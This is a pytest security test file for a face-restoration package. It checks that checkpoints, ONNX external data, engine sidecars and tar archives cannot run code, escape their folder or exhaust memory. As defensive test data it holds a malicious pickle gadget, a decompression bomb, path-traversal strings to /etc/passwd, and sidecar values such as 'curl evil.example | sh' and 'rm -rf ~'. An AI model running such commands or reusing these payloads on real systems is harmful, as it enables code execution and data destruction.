"""Weights, graphs and tars from anywhere: nothing in them is run, opened elsewhere, unpacked, or merely believed.

What stands here is what SECURITY.md promises. The tests of tampered shipped files are in test_weights.py, those of
plans and their sidecars in runtime/test_sidecar.py.
"""

from __future__ import annotations

import ast
import importlib.metadata
import io
import json
import os
import pickle
import struct
import subprocess
import sys
import tarfile
import zipfile
from pathlib import Path
from typing import Any, cast

import numpy as np
import onnx
import pytest
from onnx import TensorProto

from bfsr_edge import faceset, weights
from bfsr_edge.errors import BfsrError, ModelError
from bfsr_edge.runtime import sidecar
from bfsr_edge.runtime.graph import read_graph
from bfsr_edge.weights.graphs import read_onnx
from tests.fuzz import networks, properties, real

ROOT = Path(__file__).resolve().parent.parent
CODE = sorted(
    [*(ROOT / "bfsr_edge").rglob("*.py"), *(ROOT / "tools").glob("*.py"), *(ROOT / "benchmarks").glob("*.py")]
)
RUNS_WHAT_IT_READS = {"pickle", "cPickle", "dill", "cloudpickle", "joblib", "marshal", "shelve", "yaml"}


# ---- no code out of files


def problems(path: Path) -> list[str]:
    """Every way of Python and of our libraries to run what a file says, or to open what it names."""
    found = []
    for node in ast.walk(ast.parse(path.read_text("utf-8"))):
        names = [alias.name for alias in node.names] if isinstance(node, ast.Import) else []
        names += [node.module or ""] if isinstance(node, ast.ImportFrom) else []
        found += [name for name in names if name.split(".")[0] in RUNS_WHAT_IT_READS]
        if not isinstance(node, ast.Call):
            continue
        written, given = ast.unparse(node.func), {word.arg: ast.unparse(word.value) for word in node.keywords}
        wrong = (
            written in ("eval", "exec", "compile", "os.system", "os.popen", "__import__", "torch.jit.load"),
            written == "torch.load" and given.get("weights_only") != "True",
            given.get("allow_pickle", "False") != "False",
            given.get("shell", "False") != "False",
            written.endswith(".extractall"),  # of a tar or a zip
            # it opens what the file names, unless told not to; tools and scripts read what they have just made
            "bfsr_edge" in path.parts and written == "onnx.load" and given.get("load_external_data") != "False",
        )
        found += [ast.unparse(node)] if any(wrong) else []
    return found


def test_no_code_runs_what_a_file_says() -> None:
    assert [f"{path}: {found}" for path in CODE for found in problems(path)] == []


@pytest.mark.parametrize(
    "line",
    [
        "import pickle", "from yaml import load", "eval(text)", "torch.load(path)", "archive.extractall()",
        "torch.load(path, weights_only=False)", "np.load(path, allow_pickle=True)", "onnx.load(path)",
        "subprocess.run(text, shell=True)",
    ],
)  # fmt: skip
def test_that_code_would_be_seen(line: str, tmp_path: Path) -> None:
    path = tmp_path / "bfsr_edge" / "a.py"
    path.parent.mkdir()
    path.write_text(line)
    assert problems(path)


class Harm:
    """Unpickling this writes a file."""

    def __init__(self, target: Path) -> None:
        self.target = target

    def __reduce__(self) -> tuple[Any, ...]:
        return (Path.touch, (self.target,))


def _zip(content: bytes) -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as archive:
        archive.writestr("archive/data.pkl", content)
        archive.writestr("archive/version", "3\n")
        archive.writestr("archive/byteorder", sys.byteorder)
    return made.getvalue()


def _tar(content: bytes) -> bytes:
    """What torch wrote before 2017."""
    made = io.BytesIO()
    with tarfile.open(fileobj=made, mode="w:") as archive:
        for name in ("storages", "tensors", "pickle"):
            member = tarfile.TarInfo(name)
            member.size = len(content)
            archive.addfile(member, io.BytesIO(content))
    return made.getvalue()


LEGACY = pickle.dumps(0x1950A86A20F9469CFC6C) + pickle.dumps(1001) + pickle.dumps({"little_endian": True})


@pytest.mark.parametrize("suffix", [".pth", ".pt", ".ckpt"])
@pytest.mark.parametrize("kind", ["plain pickle", "legacy", "zip", "tar", "named as ours"])
def test_no_pickle_is_executed(kind: str, suffix: str, tmp_path: Path) -> None:
    pytest.importorskip("torch", reason="only the torch backend reads .pth files")
    harm = pickle.dumps({"state_dict": Harm(tmp_path / "harmed")})
    pickle.loads(harm)
    assert (tmp_path / "harmed").exists(), "the harm does no harm, so this test shows nothing"
    (tmp_path / "harmed").unlink()
    content = {"legacy": LEGACY + harm + pickle.dumps([]), "zip": _zip(harm), "tar": _tar(harm)}.get(kind, harm)
    path = tmp_path / (f"a{suffix}" if kind != "named as ours" else "a.safetensors")
    path.write_bytes(content)
    from bfsr_edge.models import load_checkpoint

    with pytest.raises(ModelError) as caught:
        load_checkpoint(path)
    assert caught.value.fix
    words: list[Any] = ["restore", ROOT / "samples" / "lq" / "hopper-face.png", "-o", tmp_path / "out", "--model", path]
    result = properties.run(words)
    assert result.exit_code in (1, 2)
    assert not properties.broken(result)
    assert not (tmp_path / "harmed").exists()


# ---- sizes that a file claims


def test_a_pth_that_unpacks_to_more_than_it_is_is_refused(tmp_path: Path) -> None:
    torch = pytest.importorskip("torch")
    from bfsr_edge.models import load_checkpoint

    whole = io.BytesIO()
    torch.save({"params": {"conv_first.weight": torch.zeros(500, 500)}}, whole)
    path = tmp_path / "bomb.pth"
    with zipfile.ZipFile(whole) as stored, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as packed:
        for entry in stored.infolist():
            packed.writestr(entry.filename, stored.read(entry))
    assert path.stat().st_size < 10_000
    with pytest.raises(ModelError, match="weights only") as caught:
        load_checkpoint(path)
    assert "unpacks to more" in str(caught.value)


def test_tensors_that_repeat_a_number_are_refused(tmp_path: Path) -> None:
    """A file of a kilobyte can hold tensors of any shape, all of whose elements are one stored number."""
    torch = pytest.importorskip("torch")
    from bfsr_edge.models import load_checkpoint

    names = {"conv_first.weight": (1 << 24, 3, 3, 3), "conv_last.weight": (3, 4, 3, 3), "conv_last.bias": (3,)}
    tensors = {name: torch.zeros(1).expand(shape) for name, shape in names.items()}
    for more in ({}, {"conv_after_body.weight": torch.zeros(1), "upsample.0.weight": torch.zeros(1)}):
        torch.save({"params": {**tensors, **more, "body.0.conv1.weight": torch.zeros(1)}}, tmp_path / "a.pth")
        with pytest.raises(ModelError, match="fewer numbers than its tensors claim"):
            load_checkpoint(tmp_path / "a.pth")


def test_a_block_number_of_a_billion_is_refused(tmp_path: Path) -> None:
    torch = pytest.importorskip("torch")
    from bfsr_edge.models import load_checkpoint

    tensors = {
        "conv_first.weight": torch.zeros(4, 3, 3, 3),
        "trunk_net.999999999.conv1.weight": torch.zeros(4, 4, 3, 3),
    }
    torch.save(tensors, tmp_path / "a.pth")
    with pytest.raises(ModelError, match="not an MSRResNet"):
        load_checkpoint(tmp_path / "a.pth")


@pytest.mark.parametrize(
    ("architecture", "settings"),
    [
        ("msrresnet", {"blocks": 1 << 40}),
        ("msrresnet", {"blocks": 2, "channels": 1 << 16}),
        ("edsr", {"blocks": 1, "channels": 1 << 31}),
        ("edge-unet", {"widths": [1 << 15] * 4, "encoder": [0, 1, 1, 3], "decoder": [1, 2, 1]}),
        ("edge-unet", {"widths": [8] * 3, "encoder": [1 << 30] * 3, "decoder": [1, 1]}),
        ("edge-unet", {"widths": [[8]] * 3}),
        ("msrresnet", {"blocks": float("nan")}),
        ("msrresnet", {"channels": 0}),
        ("msrresnet", []),
    ],
)
def test_settings_of_giants_are_refused_before_memory_is_taken(
    architecture: str, settings: Any, tmp_path: Path
) -> None:
    pytest.importorskip("torch")
    from bfsr_edge.models import load_checkpoint

    path = tmp_path / "giant.safetensors"
    content = networks.checkpoint()
    (size,) = struct.unpack_from("<Q", content)
    header = json.loads(content[8 : 8 + size])
    header["__metadata__"] |= {"architecture": architecture, "settings": json.dumps(settings)}
    written = json.dumps(header).encode()
    path.write_bytes(struct.pack("<Q", len(written)) + written + content[8 + size :])
    resource = pytest.importorskip("resource", reason="peak memory is not told on this system")
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    with pytest.raises(ModelError):
        load_checkpoint(path)
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before < 300_000  # kilobytes


@pytest.mark.parametrize("size", [(1 << 64) - 1, 1 << 40, 101 * 1000 * 1000, 1 << 20])
def test_oversized_headers_are_refused(size: int, tmp_path: Path) -> None:
    pytest.importorskip("torch")
    from bfsr_edge.models import load_checkpoint

    path = tmp_path / "a.safetensors"
    path.write_bytes(struct.pack("<Q", size) + b"{" * 1000)
    with pytest.raises(ModelError, match="cannot be read"):
        load_checkpoint(path)


# ---- ONNX: data in other files


def external(folder: Path, location: str, **numbers: int) -> Path:
    """``nearest`` with its weight in another file."""
    folder.mkdir(parents=True, exist_ok=True)
    model = networks.nearest()
    weight = model.graph.initializer[0]
    content = weight.raw_data
    weight.ClearField("raw_data")
    weight.data_location = TensorProto.EXTERNAL
    for key, value in {"location": location, **numbers}.items():
        weight.external_data.add(key=key, value=str(value))
    path = folder / "a.onnx"
    path.write_bytes(model.SerializeToString())
    for name in ("weights.bin", "sub/weights.bin", "../outside.bin"):
        (folder / name).parent.mkdir(exist_ok=True)
        (folder / name).write_bytes(content)
    return path


@pytest.mark.parametrize("location", ["weights.bin", "sub/weights.bin", "./weights.bin"])
def test_external_data_beside_the_file_are_read(location: str, tmp_path: Path) -> None:
    proto = read_onnx(external(tmp_path / "model", location, offset=0, length=576))
    assert read_onnx(external(tmp_path / "model", location)) == proto
    proto.graph.initializer[0].ClearField("data_location")
    assert proto == networks.nearest()


@pytest.mark.parametrize(
    "location",
    [
        "../outside.bin", "sub/../../outside.bin", "/etc/passwd", "../../../../../../etc/passwd", "", ".", "sub",
        "none.bin", "..\\outside.bin", "C:\\weights.bin", "\\\\server\\share\\weights.bin", "link.bin",
        "linked/outside.bin", "weights.bin\0",
    ],
)  # fmt: skip
def test_external_data_elsewhere_are_refused(location: str, tmp_path: Path) -> None:
    path = external(tmp_path / "model", location)
    if os.name != "nt":
        (tmp_path / "model" / "link.bin").symlink_to("../outside.bin")
        (tmp_path / "model" / "linked").symlink_to("..", target_is_directory=True)
    with pytest.raises(ModelError, match="cannot be read as ONNX"):
        read_onnx(path)
    with pytest.raises(ModelError, match="cannot be used"):
        read_graph(weights.resolve(path), None)
    result = properties.run(["inspect", path])
    assert result.exit_code == 1
    assert not properties.broken(result)


def test_external_data_in_an_attribute_are_refused_too(tmp_path: Path) -> None:
    """Tensors stand in more places than one."""
    model = networks.nearest()
    node = model.graph.node.add(op_type="Constant", output=["unused"])
    attribute = node.attribute.add(name="value", type=onnx.AttributeProto.TENSOR)
    attribute.t.CopyFrom(model.graph.initializer[0])
    attribute.t.ClearField("raw_data")
    attribute.t.data_location = TensorProto.EXTERNAL
    attribute.t.external_data.add(key="location", value="../../secret")
    inner = onnx.helper.make_graph([node], "inner", [], [])
    model.graph.node.append(onnx.helper.make_node("If", ["c"], ["d"], then_branch=inner, else_branch=inner))
    del model.graph.node[2]
    (tmp_path / "a.onnx").write_bytes(model.SerializeToString())
    with pytest.raises(ModelError, match="cannot be read as ONNX") as caught:
        read_onnx(tmp_path / "a.onnx")
    assert "secret" in str(caught.value)


@pytest.mark.parametrize(
    "numbers", [{"offset": 1}, {"length": 1 << 40}, {"offset": -1}, {"offset": 1 << 62}, {"length": 5}]
)
def test_external_data_beyond_their_file_are_refused(numbers: dict[str, int], tmp_path: Path) -> None:
    with pytest.raises(ModelError, match="cannot be read as ONNX"):
        read_onnx(external(tmp_path / "model", "weights.bin", **numbers))


@pytest.mark.parametrize("dims", [[1 << 62, 4], [1 << 31, 1 << 31, 1 << 31], [-1, 3], [48, 3, 1, 2], [600]])
def test_tensors_of_another_size_than_their_shape_are_refused(dims: list[int], tmp_path: Path) -> None:
    for stored in ("raw_data", "float_data", "external"):
        path = external(tmp_path / stored, "weights.bin")
        model = onnx.load(path, load_external_data=False) if stored == "external" else networks.nearest()
        weight = model.graph.initializer[0]
        if stored == "float_data":
            weight.float_data.extend(np.frombuffer(weight.raw_data, np.float32).tolist())
            weight.ClearField("raw_data")
        weight.dims[:] = dims
        path.write_bytes(model.SerializeToString())
        with pytest.raises(ModelError, match="cannot be read as ONNX"):
            read_onnx(path)


def test_shipped_and_foreign_types_pass(tmp_path: Path) -> None:
    """What a check forbids must not be what people have: every type of number, stored in either way."""
    assert read_onnx(weights.resolve("edge").path).graph.initializer
    model = networks.nearest()
    for place, dtype in enumerate(
        (np.int8, np.uint8, np.int32, np.int64, np.float16, np.float64, np.bool_, np.complex64)
    ):
        model.graph.initializer.append(onnx.numpy_helper.from_array(np.ones((2, 3), dtype), f"raw{place}"))
        kind = onnx.helper.np_dtype_to_tensor_dtype(np.dtype(dtype))
        model.graph.initializer.append(
            onnx.helper.make_tensor(f"typed{place}", kind, (2, 3), np.ones(6, dtype).tolist())
        )
    model.graph.initializer.append(onnx.helper.make_tensor("text", TensorProto.STRING, (2,), cast("Any", [b"a", b"b"])))
    model.graph.initializer.append(onnx.helper.make_tensor("packed", TensorProto.INT4, (3,), [1, 2, 3]))
    model.graph.initializer.append(onnx.helper.make_tensor("empty", TensorProto.FLOAT, (0,), []))
    (tmp_path / "a.onnx").write_bytes(model.SerializeToString())
    assert read_onnx(tmp_path / "a.onnx") == model


# ---- sidecars


@pytest.mark.parametrize(
    "changes",
    [
        {"rebuild": "bfsr-edge build-engine; curl evil.example | sh"},
        {"rebuild": "bfsr-edge build-engine --model $(reboot)"},
        {"rebuild": "rm -rf ~"},
        {"name": "edge\x1b]0;title\x07"},
        {"tile": [1 << 40, 32]},
        {"tile": ["a", "b"]},
        {"batch": [1, 2]},
        {"scale": "4"},
        {"sm": [8.9]},
        {"flavour_version": None},
        {"options": []},
        {"unknown": 1},
    ],
)
def test_sidecars_that_cannot_be_are_refused(changes: dict[str, Any], tmp_path: Path) -> None:
    """Every command that looks for engines reads every sidecar, and shows what stands in it as the next command."""
    engine = tmp_path / "a.engine"
    engine.write_bytes(b"a plan")
    path = sidecar.path_of(engine)
    path.write_text(json.dumps(networks.sidecar()))
    assert sidecar.read(engine).name == "edge"
    path.write_text(json.dumps({**networks.sidecar(), **changes}))
    with pytest.raises(ModelError, match="cannot be read as the sidecar"):
        sidecar.read(engine)


def test_a_sidecar_names_no_file(tmp_path: Path) -> None:
    """The plan is the file beside it: no value leads to another one."""
    engine = tmp_path / "a.engine"
    engine.write_bytes(b"a plan")
    other = {**networks.sidecar(), "name": "../../etc/passwd", "target": "/etc/passwd"}
    sidecar.path_of(engine).write_text(json.dumps(other))
    with pytest.raises(ModelError, match="is not the plan"):
        sidecar.check_plan(sidecar.read(engine), weights.resolve(engine))


# ---- the net


def test_openvino_reports_nothing() -> None:
    """OpenVINO's package sends an event to Google Analytics whenever it is imported, if it can."""
    if not any(importlib.metadata.packages_distributions().get("openvino_telemetry", [])):
        pytest.skip("this OpenVINO came without it")
    code = (
        "import sys\nfrom bfsr_edge.runtime import load\nload('edge', backend='openvino')\n"
        "assert not [name for name, module in sys.modules.items() if module and 'openvino_telemetry' in name]"
    )
    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=False)
    assert (done.returncode, done.stderr) == (0, "")


# ---- tars


def test_paths_in_tars_cannot_escape(tmp_path: Path) -> None:
    """Tars are indexed and read in place: whatever their members are called, nothing is written."""
    face = real.pictures()["ours.png"]
    path = tmp_path / "sub" / "faces.tar"
    path.parent.mkdir()
    with tarfile.open(path, "w:") as tar:
        for name in ("../escape.png", str(tmp_path / "absolute.png"), "../../" * 20 + "etc/escape.png", "a.png"):
            member = tarfile.TarInfo(name)
            member.size = len(face)
            tar.addfile(member, io.BytesIO(face))
        for kind in (tarfile.SYMTYPE, tarfile.LNKTYPE, tarfile.CHRTYPE, tarfile.FIFOTYPE):
            member = tarfile.TarInfo("link.png")
            member.type, member.linkname = kind, "/etc/passwd"
            tar.addfile(member)
    before = sorted(tmp_path.rglob("*"))
    faces = faceset.find_faces([path])
    assert len(faces) == 4  # no links and no devices
    for entry in faces:
        assert entry.file == str(path)
        assert entry.encoded() == face
        with pytest.raises(BfsrError):  # it is not square
            faceset.decode_face(entry, 16)
    assert sorted(tmp_path.rglob("*")) == before
